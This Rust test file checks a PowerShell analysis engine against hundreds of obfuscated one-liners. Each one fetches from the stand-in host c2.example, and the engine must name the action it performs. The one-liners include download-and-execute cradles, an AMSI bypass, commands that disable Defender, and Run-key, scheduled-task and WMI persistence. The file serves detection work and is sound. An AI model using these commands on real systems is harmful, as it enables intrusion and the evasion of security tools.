//! The breadth of the language: each script fetches from `c2.example` by another feature of PowerShell, and the engine
//! has to say so exactly.

#![allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "a test may panic")]

use strongroom_files::powershell::unfold;
use strongroom_files::script::{Action, Budget};
use strongroom_model::Limits;

/// What the script would do, a line each.
fn acts(script: &str) -> Vec<String> {
    let limits = Limits::default();
    let unfolded = unfold(script, &mut Budget::new(&limits));
    unfolded
        .effects
        .iter()
        .map(|effect| match &effect.action {
            Action::Download { url, .. } => format!("download {url}"),
            Action::Upload { url } => format!("upload {url}"),
            Action::Connect { host, port } => format!("connect {host}:{}", port.unwrap_or(0)),
            Action::Listen { at } => format!("listen {at}"),
            Action::Start { command } => format!("start {command}"),
            Action::Persist { how, command } => format!("persist {how} {command}"),
            Action::Disarm { what } => format!("disarm {what}"),
            Action::Write { path, .. } => format!("write {path}"),
            Action::LoadCode { how, .. } => format!("load {how}"),
            Action::SetRegistry { key, value } => format!("registry {key}={value}"),
            Action::CreateObject { class } => format!("object {class}"),
            other => format!("{other:?}"),
        })
        .collect()
}

fn check(cases: &[(&str, &str)]) {
    let mut wrong = Vec::new();
    for (script, wanted) in cases {
        let acts = acts(script);
        if !acts.iter().any(|act| act == wanted) {
            wrong.push(format!("{script}\n   wanted {wanted}\n   got    {acts:?}"));
        }
    }
    assert!(
        wrong.is_empty(),
        "{} of {} wrong:\n{}",
        wrong.len(),
        cases.len(),
        wrong.join("\n")
    );
}

const A: &str = "download http://c2.example/a";

#[test]
fn statements() {
    check(&[
        (
            "trap [IO.IOException] { } trap { } throw 'x'; iwr http://c2.example/a",
            A,
        ),
        (
            "trap [IO.IOException] { iwr http://c2.example/a } trap { } throw 'x'",
            A,
        ),
        (
            "'http://c2.example/a' | ? { $_ -eq (Get-Date) } | % { iwr $_ }",
            A,
        ),
        (
            "@('http://c2.example/a').Where({ $_ -eq (Get-Date) }).ForEach({ iwr $_ })",
            A,
        ),
        (
            "switch ('x') { 'y' { iwr http://c2.example/b } 'x' { iwr http://c2.example/a } }",
            A,
        ),
        (
            "switch -regex ('abc') { '^b' { iwr http://no.example } '^a(.)' { iwr \"http://c2.example/$('a')\" } }",
            A,
        ),
        (
            "switch -wildcard ('abc') { 'a*' { iwr http://c2.example/a; break } default { } }",
            A,
        ),
        ("switch (1,2) { 2 { iwr http://c2.example/a } }", A),
        ("switch (3) { {$_ -gt 2} { iwr http://c2.example/a } }", A),
        (
            "$i=0; do { $i++ } until ($i -ge 3); iwr ('http://c2.example/' + [char](94+$i))",
            A,
        ),
        (
            "$s=''; foreach ($c in 'h','t') { $s += $c }; iwr ($s + 'tp://c2.example/a')",
            A,
        ),
        ("trap { continue } iwr http://c2.example/a", A),
        ("try { throw 'x' } catch { iwr http://c2.example/a }", A),
        ("try { throw 'http://c2.example/a' } catch { iwr $_ }", A),
        ("try { 1 } finally { iwr http://c2.example/a }", A),
        ("data { 'x' }; iwr http://c2.example/a", A),
        (
            "function f { param([Parameter(Mandatory=$true)][string]$u) iwr $u } f -u http://c2.example/a",
            A,
        ),
        (
            "function f([string]$u, $p='a') { iwr \"$u/$p\" }; f 'http://c2.example'",
            A,
        ),
        (
            "function f { begin { $u = 'http://c2.example/' } process { iwr ($u + $_) } end { } }; 'a' | f",
            A,
        ),
        ("filter g { iwr $_ }; 'http://c2.example/a' | g", A),
        ("workflow w { iwr http://c2.example/a }; w", A),
        ("$h = @'\nhttp://c2.example/a\n'@\niwr $h", A),
        ("$p='a'; $h = @\"\nhttp://c2.example/$p\n\"@\niwr $h", A),
        (
            ":outer foreach ($i in 1..3) { foreach ($j in 1..3) { if ($j -eq 2) { continue outer } if ($i -eq 3) { iwr http://c2.example/a } } }",
            A,
        ),
        (
            "if ($true) { iwr http://c2.example/a } else { iwr http://no.example }",
            A,
        ),
        ("& { param($u) iwr $u } http://c2.example/a", A),
        ("$x = if (1) { 'http://c2.example/a' } else { 'b' }; iwr $x", A),
        (
            "$x = foreach ($c in 104,116,116,112) { [char]$c }; iwr ((-join $x) + '://c2.example/a')",
            A,
        ),
        ("$a,$b = 'http:','//c2.example/a'; iwr ($a+$b)", A),
        ("$a = $b = 'http://c2.example/a'; iwr $a", A),
        ("[string]$a,[string]$b = 'http:','//c2.example/a'; iwr ($a+$b)", A),
        ("<# c #> iwr <# d #> http://c2.example/a # e", A),
        ("iwr `\n http://c2.example/a", A),
        ("#requires -version 2\niwr http://c2.example/a", A),
    ]);
}

#[test]
fn operators() {
    check(&[
        ("iwr ('HTTP://c2.example/a' -creplace 'HTTP','http')", A),
        ("iwr ('a/elpmaxe.2c//:ptth'[-1..-21] -join '')", A),
        ("iwr ('c2.example' -replace '^(.*)$','http://$1/a')", A),
        ("iwr ('c2.example' -replace '(?<h>.+)','http://${h}/a')", A),
        ("iwr ('{0}{2}{1}' -f 'http','example/a','://c2.')", A),
        ("iwr ('{0,4}://{1}' -f 'http','c2.example/a')", A),
        ("iwr ('http:#//c2#.example/a' -split '#' -join '')", A),
        ("iwr (-join ('http:#//c2#.example/a' -split '#'))", A),
        (
            "iwr (-join ('httpX//c2YexampleZa'.Split('XYZ') | % { $_ }))",
            "download http//c2examplea",
        ),
        ("iwr (('http://c2.example/a','b')[0])", A),
        ("iwr (('x',('http://c2.example/a','b'))[1][0])", A),
        ("iwr (@{k='http://c2.example/a'}['k'])", A),
        ("iwr (@{k=@{j='http://c2.example/a'}}.k.j)", A),
        ("iwr ([ordered]@{a=1;b='http://c2.example/a'})[1]", A),
        ("iwr ([pscustomobject]@{u='http://c2.example/a'}).u", A),
        (
            "$o = New-Object psobject -Property @{u='http://c2.example/a'}; iwr $o.u",
            A,
        ),
        (
            "iwr (-join [char[]](104,116,116,112,58,47,47,99,50,46,101,120,97,109,112,108,101,47,97))",
            A,
        ),
        (
            "iwr ([string]::Join('',([char[]](104,116,116,112)))+'://c2.example/a')",
            A,
        ),
        (
            "iwr ((-join ((0x68,0x74,0x74,0x70) | % {[char]$_})) + '://c2.example/a')",
            A,
        ),
        ("iwr (\"http://c2.example/$([char](96+1))\")", A),
        ("iwr ('http://c2.example/' + [char](0xC1 -bxor 0xA0))", A),
        ("iwr ('http://c2.example/' + [char](194 -shr 1))", A),
        ("iwr ('http://c2.example/' + [char](3 -shl 5 -bor 1))", A),
        ("iwr ('http://c2.example/' + [char](-bnot -98))", A),
        (
            "if ('abc' -match 'b(c)') { iwr ('http://'+$matches[1]+'2.example/a') }",
            A,
        ),
        (
            "if ('abc' -like 'a*' -and -not ('x' -eq 'y')) { iwr http://c2.example/a }",
            A,
        ),
        ("if ('a' -in 'a','b') { iwr http://c2.example/a }", A),
        ("if (('a','b') -contains 'B') { iwr http://c2.example/a }", A),
        ("if (5 -is [int]) { iwr http://c2.example/a }", A),
        ("iwr (('104' -as [int] -as [char]) + 'ttp://c2.example/a')", A),
        (
            "$s = 'h','t','t','p'; $OFS=''; iwr \"${s}://c2.example/a\"",
            "download http://c2.example/a",
        ),
        (
            "$a = @{Uri='http://c2.example/a'; UseBasicParsing=$true}; iwr @a",
            A,
        ),
        ("$a = @('http://c2.example/a'); iwr @a", A),
        ("$x = $null; iwr ($x ?? 'http://c2.example/a')", A),
        ("iwr (('a','http://c2.example/a','c') | select -index 1)", A),
        (
            "$x='a/elpmaxe.2c//:ptth'.ToCharArray(); [array]::Reverse($x); iwr (-join $x)",
            A,
        ),
        (
            "$x='a/elpmaxe.2c//:ptth'; iwr (-join (($x.Length-1)..0 | % { $x[$_] }))",
            A,
        ),
        ("iwr ('http://c2.example/ab' -replace '.$')", A),
        ("iwr ('http://c2.example/a' -isplit '!')", A),
        ("iwr ('HTTP://C2.EXAMPLE/A'.ToLower())", A),
        (
            "$i=5; $i+=2; $i*=2; $i-=1; $i/=1; $i%=14; iwr ('http://c2.example/' + [char]($i+84))",
            A,
        ),
        ("iwr ('http://c2.example/' + 'abc'.Substring(0,1))", A),
        ("iwr ('http://c2.example/' + 'cba'.Remove(0,2))", A),
        ("iwr ('http://c2.example/b'.Replace('b','a'))", A),
        ("iwr ('ttp://c2.example/a'.Insert(0,'h'))", A),
        ("iwr ('  http://c2.example/a '.Trim())", A),
        ("iwr ('http://c2.example/a' * 1)", A),
        ("iwr (('ht'+'t'+'p://')+('c2','example/a' -join '.'))", A),
    ]);
}

#[test]
fn ways_to_evaluate() {
    check(&[
        ("iex 'iwr http://c2.example/a'", A),
        ("'iwr http://c2.example/a' | iex", A),
        ("Invoke-Expression -Command 'iwr http://c2.example/a'", A),
        ("&('i'+'ex') 'iwr http://c2.example/a'", A),
        ("&(gcm *ke-ex*) 'iwr http://c2.example/a'", A),
        ("&(Get-Command I*e-E*) 'iwr http://c2.example/a'", A),
        (".(gal ie[x]) 'iwr http://c2.example/a'", A),
        (
            "&(Get-Alias -Definition Invoke-Expression) 'iwr http://c2.example/a'",
            A,
        ),
        (
            "&(gv 'x' -ea 0).Value; $x='iex'; &(gv x).Value 'iwr http://c2.example/a'",
            A,
        ),
        (
            "$x='iex'; &(Get-Variable x -ValueOnly) 'iwr http://c2.example/a'",
            A,
        ),
        (
            "$x='iex'; &(Get-Item variable:x).Value 'iwr http://c2.example/a'",
            A,
        ),
        ("$x='iex'; & (gci variable:x).value 'iwr http://c2.example/a'", A),
        ("Set-Item variable:q 'iwr http://c2.example/a'; iex $q", A),
        ("sv q 'iwr http://c2.example/a'; iex (gv q -v)", A),
        ("Set-Item env:q 'iwr http://c2.example/a'; iex $env:q", A),
        ("$env:q='iwr http://c2.example/a'; iex (gi env:q).value", A),
        ("$env:q='iwr http://c2.example/a'; iex (gc env:q)", A),
        ("${env:q}='iwr http://c2.example/a'; iex (dir env:q).Value", A),
        ("Set-Item function:f { iwr http://c2.example/a }; f", A),
        ("$function:f = 'iwr http://c2.example/a'; f", A),
        ("Set-Alias zz Invoke-Expression; zz 'iwr http://c2.example/a'", A),
        ("nal zz iex; zz 'iwr http://c2.example/a'", A),
        ("Set-Item alias:zz iex; zz 'iwr http://c2.example/a'", A),
        (
            "sal a New-Object; (a Net.WebClient).DownloadString('http://c2.example/a')",
            A,
        ),
        (
            "$ExecutionContext.InvokeCommand.InvokeScript('iwr http://c2.example/a')",
            A,
        ),
        (
            "$ExecutionContext.InvokeCommand.NewScriptBlock('iwr http://c2.example/a').Invoke()",
            A,
        ),
        (
            "$ExecutionContext.InvokeCommand.ExpandString('iwr http://c2.example/a') | iex",
            A,
        ),
        ("& ([scriptblock]::Create('iwr http://c2.example/a'))", A),
        (".([scriptblock]::Create('iwr http://c2.example/a'))", A),
        ("[scriptblock]::Create('iwr http://c2.example/a').Invoke()", A),
        (
            "[scriptblock]::Create('iwr http://c2.example/a').InvokeReturnAsIs()",
            A,
        ),
        (
            "[Management.Automation.ScriptBlock]::Create('iwr http://c2.example/a') | % { & $_ }",
            A,
        ),
        (
            "icm -ScriptBlock ([scriptblock]::Create('iwr http://c2.example/a'))",
            A,
        ),
        ("Invoke-Command { iwr http://c2.example/a }", A),
        (
            "[PowerShell]::Create().AddScript('iwr http://c2.example/a').Invoke()",
            A,
        ),
        (
            "$p=[PowerShell]::Create(); $p.AddScript('iwr http://c2.example/a') | Out-Null; $p.BeginInvoke()",
            A,
        ),
        (
            "$p=[PowerShell]::Create(); [void]$p.AddCommand('iex').AddArgument('iwr http://c2.example/a'); $p.Invoke()",
            A,
        ),
        ("Start-Job { iwr http://c2.example/a }", A),
        (
            "Start-Job -ScriptBlock { param($u) iwr $u } -ArgumentList 'http://c2.example/a'",
            A,
        ),
        (".($PSHome[4]+$PSHome[30]+'x') 'iwr http://c2.example/a'", A),
        (".($ShellId[1]+$ShellId[13]+'x') 'iwr http://c2.example/a'", A),
        ("&($env:ComSpec[4,15,25]-join'') 'iwr http://c2.example/a'", A),
        (".((gv '*mdr*').Name[3,11,2]-join'') 'iwr http://c2.example/a'", A),
        (
            "&((Get-Variable *mdr*).Name[3,11,2]-join'') 'iwr http://c2.example/a'",
            A,
        ),
        (
            ".( $VerbosePreference.ToString()[1,3]+'x'-join'') 'iwr http://c2.example/a'",
            A,
        ),
        ("'iwr http://c2.example/a' | &('iex')", A),
        ("'iwr http://c2.example/a' | % { iex $_ }", A),
        ("iex -c 'iwr http://c2.example/a'", A),
        ("iex \"iwr http://c2.example/$(('a'))\"", A),
        ("$s={iwr http://c2.example/a}; $s.Invoke()", A),
        ("$s={iwr http://c2.example/a}; &$s", A),
        ("iex ({iwr http://c2.example/a}.ToString())", A),
        (
            "1..1 | ForEach-Object -Begin { } -Process { iwr http://c2.example/a } -End { }",
            A,
        ),
        ("@('iwr http://c2.example/a').ForEach({ iex $_ })", A),
        ("'iwr http://c2.example/a'.ForEach({ iex $_ })", A),
        (
            "('b','iwr http://c2.example/a').Where({ $_ -like 'i*' }) | iex",
            A,
        ),
        ("powershell -c 'iwr http://c2.example/a'", A),
        ("powershell { iwr http://c2.example/a }", A),
        ("cmd /c \"powershell iwr http://c2.example/a\"", A),
        ("start powershell -ArgumentList '-c iwr http://c2.example/a'", A),
        ("saps powershell '-nop','-c','iwr http://c2.example/a'", A),
        (
            "[Diagnostics.Process]::Start('powershell','-c iwr http://c2.example/a')",
            A,
        ),
        (
            "(New-Object -ComObject WScript.Shell).Run('powershell -c iwr http://c2.example/a')",
            A,
        ),
        (
            "(New-Object -com shell.application).ShellExecute('powershell','-c iwr http://c2.example/a')",
            A,
        ),
        (
            "([wmiclass]'win32_process').Create('powershell -c iwr http://c2.example/a')",
            A,
        ),
        (
            "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'powershell -c iwr http://c2.example/a'",
            A,
        ),
        (
            "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='powershell -c iwr http://c2.example/a'}",
            A,
        ),
        (
            "wmic process call create \"powershell -c iwr http://c2.example/a\"",
            A,
        ),
        (
            "[void][Reflection.Assembly]::LoadWithPartialName('Microsoft.VisualBasic'); [Microsoft.VisualBasic.Interaction]::Shell('powershell -c iwr http://c2.example/a')",
            A,
        ),
    ]);
}

#[test]
fn values() {
    check(&[
        (
            "iwr ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aHR0cDovL2MyLmV4YW1wbGUvYQ==')))",
            A,
        ),
        (
            "iwr ([System.Text.Encoding]::GetEncoding('us-ascii').GetString([byte[]](104,116,116,112))+'://c2.example/a')",
            A,
        ),
        (
            "iwr ([Text.Encoding]::GetEncoding(1252).GetString((104,116,116,112))+'://c2.example/a')",
            A,
        ),
        (
            "iwr ((New-Object Text.ASCIIEncoding).GetString((104,116,116,112))+'://c2.example/a')",
            A,
        ),
        (
            "iwr ([char][convert]::ToInt32('1101000',2) + 'ttp://c2.example/a')",
            A,
        ),
        (
            "iwr ([char][convert]::ToInt16('68',16) + 'ttp://c2.example/a')",
            A,
        ),
        (
            "iwr ([char][convert]::ToInt32('150',8) + 'ttp://c2.example/a')",
            A,
        ),
        (
            "iwr ([char]([convert]::ToByte('0x68',16)) + 'ttp://c2.example/a')",
            A,
        ),
        ("iwr (([convert]::ToString(0xab,16))[0] + '')", "download a"),
        ("iwr ([String]::Format('{0}://{1}','http','c2.example/a'))", A),
        ("iwr ([string]::Concat('http','://c2.example/a'))", A),
        ("iwr ([string][char]104 + 'ttp://c2.example/a')", A),
        (
            "iwr (([regex]::Matches('a/elpmaxe.2c//:ptth','.','RightToLeft') | % {$_.Value}) -join '')",
            A,
        ),
        ("iwr ([regex]::Replace('http://c2.example/b','b','a'))", A),
        (
            "iwr ([regex]::Replace('http://c2.example/A','[A-Z]',{ $args[0].Value.ToLower() }))",
            A,
        ),
        (
            "iwr ([regex]::Replace('http://c2.example/A','[A-Z]',{ param($m) $m.Value.ToLower() }))",
            A,
        ),
        ("iwr ([regex]::Split('http:|//c2.example|/a','\\|') -join '')", A),
        (
            "iwr ([regex]::Match('<<http://c2.example/a>>','<<(.*?)>>').Groups[1].Value)",
            A,
        ),
        (
            "iwr ([regex]::Match('<<http://c2.example/a>>','(?<=<<).*(?=>>)').Value)",
            A,
        ),
        ("iwr ([regex]::Unescape('http\\x3a//c2.example/a'))", A),
        (
            "iwr ([Uri]::UnescapeDataString('http%3A%2F%2Fc2.example%2Fa'))",
            A,
        ),
        (
            "iwr ([Net.WebUtility]::UrlDecode('http%3A%2F%2Fc2.example%2Fa'))",
            A,
        ),
        (
            "Add-Type -AssemblyName System.Web; iwr ([System.Web.HttpUtility]::HtmlDecode('http&#58;//c2.example/a'))",
            A,
        ),
        (
            "$b=[BitConverter]::GetBytes(0x70747468); iwr ([Text.Encoding]::ASCII.GetString($b)+'://c2.example/a')",
            A,
        ),
        (
            "iwr ('http://c2.example/' + [char][BitConverter]::ToInt32((97,0,0,0),0))",
            A,
        ),
        (
            "iwr ([BitConverter]::ToString([byte[]](1,171)).Replace('01-AB','http://c2.example/a'))",
            A,
        ),
        (
            "$l=New-Object Collections.ArrayList; [void]$l.Add('http://c2'); $l.Add('.example/a') | Out-Null; iwr ($l -join '')",
            A,
        ),
        (
            "$l=[Collections.Generic.List[string]]::new(); $l.Add('http://c2.example/a'); iwr $l[0]",
            A,
        ),
        (
            "$sb=New-Object Text.StringBuilder; [void]$sb.Append('http://').Append('c2.example/a'); iwr $sb.ToString()",
            A,
        ),
        (
            "$sb=[Text.StringBuilder]'http://c2.example/b'; $sb.Replace('b','a')|Out-Null; iwr \"$sb\"",
            A,
        ),
        (
            "$sb=[Text.StringBuilder]::new(); $null=$sb.AppendFormat('{0}://c2.example/{1}','http','a'); iwr $sb.ToString()",
            A,
        ),
        (
            "$s=New-Object IO.StringReader('http://c2.example/a'); iwr $s.ReadLine()",
            A,
        ),
        (
            "$m=New-Object IO.MemoryStream; $w=New-Object IO.StreamWriter($m); $w.Write('http://c2.example/a'); $w.Flush(); $m.Position=0; iwr ((New-Object IO.StreamReader($m)).ReadToEnd())",
            A,
        ),
        (
            "iwr ([Environment]::GetEnvironmentVariable('x')); [Environment]::SetEnvironmentVariable('q','http://c2.example/a'); iwr $env:q",
            A,
        ),
        ("$x='http://c2.example/a'; iwr (Get-Variable x).Value", A),
        (
            "iwr ((104,116,116,112 | % { [char][int]$_ }) -join '' | % { $_ + '://c2.example/a' })",
            A,
        ),
        ("iwr (('a','b','http://c2.example/a') | select -Last 1)", A),
        ("iwr (('a','b','http://c2.example/a') | ? { $_.Length -gt 3 })", A),
        ("iwr (('a','b','http://c2.example/a') | ? Length -gt 3)", A),
        ("iwr (('HTTP://C2.EXAMPLE/A' | % ToLower))", A),
        (
            "iwr ((3,1,2 | sort) -join '' | % { 'http://c2.example/' + $_ })",
            "download http://c2.example/123",
        ),
        (
            "iwr ((3,1,2 | sort -desc | % { \"$_\" }) -join '')",
            "download 321",
        ),
        (
            "'http://c2.example/a' | Tee-Object -Variable t | Out-Null; iwr $t",
            A,
        ),
        ("iwr ('http://c2.example/a' | Out-String).Trim()", A),
        ("iwr (('http://c2.example/a' | Out-String -Stream))", A),
        ("iwr (Write-Output 'http://c2.example/a')", A),
        ("iwr ([math]::Pow(2,3))", "download 8"),
        ("iwr ([char](\"0x68\" -as [int]) + 'ttp://c2.example/a')", A),
        ("iwr ([string][int]'0x10')", "download 16"),
        ("iwr (1KB)", "download 1024"),
        ("iwr (\"{0:x2}\" -f 171)", "download ab"),
        (
            "iwr ([char[]]'http' -join '' | % { \"$_\" + '://c2.example/a' })",
            A,
        ),
        ("iwr (,'http://c2.example/a')[0]", A),
        (
            "iwr ([convert]::ToBase64String([byte[]](1,2,3)))",
            "download AQID",
        ),
        (
            "$a=[byte[]](105,117,117,113); for($i=0;$i -lt $a.Length;$i++){$a[$i]=$a[$i]-1}; iwr ([Text.Encoding]::ASCII.GetString($a)+'://c2.example/a')",
            A,
        ),
        (
            "$k=[byte[]](1,2); $d=[byte[]](105,118,117,114); $i=0; iwr ((-join ($d | % { [char]($_ -bxor $k[$i++ % 2]) })) + '://c2.example/a')",
            A,
        ),
        ("iwr ('http://c2.example/' + [string][char][int]\"$(90+7)\")", A),
        (
            "$b = 'http://c2.example/a'.GetEnumerator() | % { $_ }; iwr (-join $b)",
            A,
        ),
        ("$h=@{}; $h.u='http://c2.example/a'; iwr $h.Item('u')", A),
        (
            "$h=@{b=1}; $h.Add('u','http://c2.example/a'); if ($h.ContainsKey('u')) { iwr $h['u'] }",
            A,
        ),
        (
            "$h=[ordered]@{a='http://';b='c2.example/a'}; iwr (-join $h.Values)",
            A,
        ),
        (
            "$h=@{a='http://c2.example/a'}; $h.GetEnumerator() | % { iwr $_.Value }",
            A,
        ),
    ]);
}

#[test]
fn ways_to_fetch() {
    check(&[
        (
            "(New-Object Net.WebClient).DownloadString('http://c2.example/a')",
            A,
        ),
        (
            "(New-Object System.Net.WebClient).DownloadFile('http://c2.example/a','x.exe')",
            A,
        ),
        ("[Net.WebClient]::new().DownloadData('http://c2.example/a')", A),
        ("([Net.WebClient]::new()).OpenRead('http://c2.example/a')", A),
        (
            "(New-Object Net.WebClient).\"DownloadString\"('http://c2.example/a')",
            A,
        ),
        (
            "$m='DownloadString'; (New-Object Net.WebClient).$m('http://c2.example/a')",
            A,
        ),
        (
            "(New-Object ('Net.'+'WebClient')).('Down'+'loadString')('http://c2.example/a')",
            A,
        ),
        (
            "$w=New-Object Net.WebClient; $w.BaseAddress='http://c2.example/'; $w.DownloadString('a')",
            A,
        ),
        (
            "(New-Object Net.WebClient).DownloadString((New-Object Uri('http://c2.example/a')))",
            A,
        ),
        (
            "(New-Object Net.WebClient).DownloadString([Uri]'http://c2.example/a')",
            A,
        ),
        (
            "[Activator]::CreateInstance([Net.WebClient]).DownloadString('http://c2.example/a')",
            A,
        ),
        (
            "[Activator]::CreateInstance([type]'Net.WebClient').DownloadString('http://c2.example/a')",
            A,
        ),
        (
            "([type]('{1}{0}' -f 'Client','Net.Web'))::new().DownloadString('http://c2.example/a')",
            A,
        ),
        ("Invoke-WebRequest -Uri http://c2.example/a -OutFile x", A),
        ("Invoke-RestMethod 'http://c2.example/a'", A),
        ("irm http://c2.example/a | iex", A),
        ("curl http://c2.example/a", A),
        ("wget -Uri http://c2.example/a", A),
        ("curl.exe -o x http://c2.example/a", A),
        ("wget.exe http://c2.example/a", A),
        ("(iwr -useb http://c2.example/a).Content | iex", A),
        ("Start-BitsTransfer http://c2.example/a x.exe", A),
        (
            "bitsadmin /transfer j /download /priority high http://c2.example/a C:\\x.exe",
            A,
        ),
        ("certutil -urlcache -split -f http://c2.example/a x.exe", A),
        ("certutil.exe -urlcache -f http://c2.example/a x.exe", A),
        (
            "$r=[Net.WebRequest]::Create('http://c2.example/a'); $r.GetResponse()",
            A,
        ),
        (
            "$r=[Net.HttpWebRequest]::Create('http://c2.example/a'); $s=$r.GetResponse().GetResponseStream()",
            A,
        ),
        (
            "(New-Object Net.Http.HttpClient).GetStringAsync('http://c2.example/a').Result",
            A,
        ),
        (
            "$x=New-Object -ComObject MSXML2.XMLHTTP; $x.open('GET','http://c2.example/a',$false); $x.send()",
            A,
        ),
        (
            "$x=New-Object -ComObject Microsoft.XMLHTTP; $x.Open('GET','http://c2.example/a',0); $x.Send(); iex $x.responseText",
            A,
        ),
        (
            "$x=New-Object -ComObject WinHttp.WinHttpRequest.5.1; $x.Open('GET','http://c2.example/a',0); $x.Send()",
            A,
        ),
        (
            "$x=New-Object -ComObject Msxml2.ServerXMLHTTP.6.0; $x.Open('GET','http://c2.example/a',0); $x.Send()",
            A,
        ),
        (
            "$ie=New-Object -ComObject InternetExplorer.Application; $ie.Visible=$false; $ie.Navigate('http://c2.example/a')",
            A,
        ),
        (
            "[Xml]$x = (New-Object Net.WebClient).DownloadString('http://c2.example/a')",
            A,
        ),
        (
            "$x = New-Object Xml.XmlDocument; $x.Load('http://c2.example/a')",
            A,
        ),
        ("[System.Xml.Linq.XDocument]::Load('http://c2.example/a')", A),
        (
            "$w=New-Object -ComObject Word.Application; $w.Documents.Open('http://c2.example/a')",
            A,
        ),
        ("mshta http://c2.example/a", A),
        ("regsvr32 /s /n /u /i:http://c2.example/a scrobj.dll", A),
        ("msiexec /q /i http://c2.example/a", A),
        (
            "New-Object Net.Sockets.TcpClient('c2.example',4444)",
            "connect c2.example:4444",
        ),
        (
            "$c=New-Object Net.Sockets.TcpClient; $c.Connect('192.0.2.1',443)",
            "connect 192.0.2.1:443",
        ),
        (
            "[Net.Sockets.TcpClient]::new('192.0.2.1','443')",
            "connect 192.0.2.1:443",
        ),
        (
            "$u=New-Object Net.Sockets.UdpClient('c2.example',53)",
            "connect c2.example:53",
        ),
        ("$l=[Net.Sockets.TcpListener]4444; $l.Start()", "listen port 4444"),
        (
            "$l=New-Object Net.Sockets.TcpListener('0.0.0.0',4444); $l.Start()",
            "listen port 4444",
        ),
        ("nslookup -type=txt c2.example 192.0.2.53", "connect c2.example:0"),
        ("Resolve-DnsName -Type TXT c2.example", "connect c2.example:0"),
        (
            "[Net.Dns]::GetHostAddresses('c2.example')",
            "connect c2.example:0",
        ),
        (
            "Test-NetConnection c2.example -Port 443",
            "connect c2.example:443",
        ),
        (
            "(New-Object Net.WebClient).UploadString('http://c2.example/a','x')",
            "upload http://c2.example/a",
        ),
        (
            "iwr http://c2.example/a -Method POST -Body x",
            "upload http://c2.example/a",
        ),
        (
            "Send-MailMessage -SmtpServer c2.example -To a@b.example",
            "connect c2.example:0",
        ),
        (
            "$s=New-Object Net.Mail.SmtpClient('c2.example',587); $s.Send('a','b','c','d')",
            "connect c2.example:587",
        ),
    ]);
}

#[test]
fn what_it_does_to_the_machine() {
    check(&[
        (
            "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
            "disarm AMSI: management.automation.amsiutils.amsiInitFailed",
        ),
        (
            "$a='System.Management.Automation.A';$b='ms';$u='Utils';$t=[Ref].Assembly.GetType(('{0}{1}i{2}' -f $a,$b,$u));$f=$t.GetField(('a{0}iInitFailed' -f $b),'NonPublic,Static');$f.SetValue($null,$true)",
            "disarm AMSI: management.automation.amsiutils.amsiInitFailed",
        ),
        (
            "Set-MpPreference -DisableRealtimeMonitoring $true",
            "disarm Defender preferences",
        ),
        (
            "Add-MpPreference -ExclusionPath C:\\",
            "disarm Defender preferences",
        ),
        (
            "Set-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name u -Value 'x.exe'",
            "persist Run key x.exe",
        ),
        (
            "New-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run u -Value x.exe",
            "persist Run key x.exe",
        ),
        (
            "sp HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run u x.exe",
            "persist Run key x.exe",
        ),
        (
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d x.exe",
            "persist Run key reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d x.exe",
        ),
        (
            "schtasks /create /sc minute /tn u /tr x.exe",
            "persist scheduled task schtasks /create /sc minute /tn u /tr x.exe",
        ),
        (
            "Register-ScheduledTask -TaskName u -Action (New-ScheduledTaskAction -Execute x.exe -Argument '-y')",
            "persist scheduled task x.exe -y",
        ),
        (
            "New-Service -Name u -BinaryPathName x.exe",
            "persist service x.exe",
        ),
        (
            "Set-WmiInstance -Class CommandLineEventConsumer -Namespace root\\subscription -Arguments @{Name='u';CommandLineTemplate='x.exe'}",
            "persist WMI event subscription x.exe",
        ),
        (
            "[Reflection.Assembly]::Load([byte[]](77,90,1,2))",
            "load [reflection.assembly]::load",
        ),
        (
            "[AppDomain]::CurrentDomain.Load([byte[]](77,90,1,2))",
            "load [appdomain]::load",
        ),
        ("Set-Content x.txt 'y'", "write x.txt"),
        ("'y' | Out-File x.txt", "write x.txt"),
        ("'y' > x.txt", "write x.txt"),
        ("'y' >> x.txt", "write x.txt"),
        ("[IO.File]::WriteAllText('x.txt','y')", "write x.txt"),
        ("[IO.File]::WriteAllBytes('x.exe',[byte[]](77,90))", "write x.exe"),
        ("Add-Content x.txt 'y'", "write x.txt"),
        ("& 'C:\\x y.exe' -a", "start \"C:\\x y.exe\" -a"),
        (".\\x.exe", "start .\\x.exe"),
        ("ii x.exe", "start x.exe"),
        ("[Diagnostics.Process]::Start('x.exe')", "start x.exe"),
        (
            "$p=New-Object Diagnostics.Process; $p.StartInfo.FileName='x.exe'; $p.Start()",
            "start x.exe",
        ),
    ]);
}

#[test]
fn ciphers_and_hashes() {
    check(&[
        (
            "$a=New-Object System.Security.Cryptography.AesManaged; $a.Mode=[System.Security.Cryptography.CipherMode]::CBC; $a.Padding=[System.Security.Cryptography.PaddingMode]::PKCS7; $a.KeySize=128; $a.Key=[byte[]](0..15); $a.IV=[byte[]](16..31); $b=[Convert]::FromBase64String('QvxPyIJuXSu9sz7RbrtikDu0FMOfoyhKSA0ufcS2GT8='); $d=$a.CreateDecryptor(); $p=$d.TransformFinalBlock($b,0,$b.Length); iwr ([Text.Encoding]::UTF8.GetString($p))",
            A,
        ),
        (
            "$a=[System.Security.Cryptography.Aes]::Create(); $b=[Convert]::FromBase64String('QvxPyIJuXSu9sz7RbrtikDu0FMOfoyhKSA0ufcS2GT8='); $p=$a.CreateDecryptor([byte[]](0..15),[byte[]](16..31)).TransformFinalBlock($b,0,$b.Length); iwr ([Text.Encoding]::UTF8.GetString($p))",
            A,
        ),
        (
            "$a=New-Object System.Security.Cryptography.RijndaelManaged; $a.Mode='ECB'; $a.Key=[byte[]](0..31); $b=[Convert]::FromBase64String('fr25mO2ZQKdtbHFr4cODMztVEQfBqsQFNkIoji7vZWw='); $p=$a.CreateDecryptor().TransformFinalBlock($b,0,32); iwr ([Text.Encoding]::UTF8.GetString($p))",
            A,
        ),
        (
